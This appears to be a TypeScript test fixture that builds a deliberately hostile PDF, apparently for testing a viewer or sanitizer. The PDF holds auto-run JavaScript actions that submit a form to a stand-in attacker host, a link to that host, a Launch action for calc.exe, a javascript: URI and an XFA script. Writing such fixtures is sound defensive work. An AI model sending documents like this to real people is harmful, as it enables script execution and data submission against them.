/** A PDF that tries to run scripts and a program, to call home, and to show an XFA form. Its page says "Hostile page". */
export function createHostilePdf(): Buffer {
  const script = "app.alert('run'); this.submitForm('https://attacker.example/form');"
  const action = (words: string) => `<< /S /JavaScript /JS (${words.replaceAll(/[()]/g, '\\$&')}) >>`
  const link = (bottom: number, act: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [50 ${bottom} 300 ${bottom + 20}] /Border [0 0 0] /A ${act} >>`
  const xfa = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
  const words = 'BT /F1 24 Tf 50 760 Td (Hostile page) Tj ET'
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action(script)} /Names << /JavaScript << /Names [(start) ${action(script)}] >> >> /AcroForm << /Fields [8 0 R] /XFA 6 0 R >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O ${action(script)} >> /Annots [7 0 R 8 0 R 9 0 R 10 0 R] >>`,
    `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${xfa.length} >>\nstream\n${xfa}\nendstream`,
    link(600, '<< /S /URI /URI (https://attacker.example/page) >>'),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [50 500 300 520] /AA << /K ${action(script)} >> /A ${action(script)} >>`,
    link(400, '<< /S /Launch /F (calc.exe) >>'),
    link(300, '<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
  ]
  let file = '%PDF-1.7\n'
  const offsets: number[] = []
  for (const [index, object] of objects.entries()) {
    offsets.push(file.length)
    file += `${index + 1} 0 obj\n${object}\nendobj\n`
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const head = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`
  return Buffer.from(`${file}${head}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`)
}
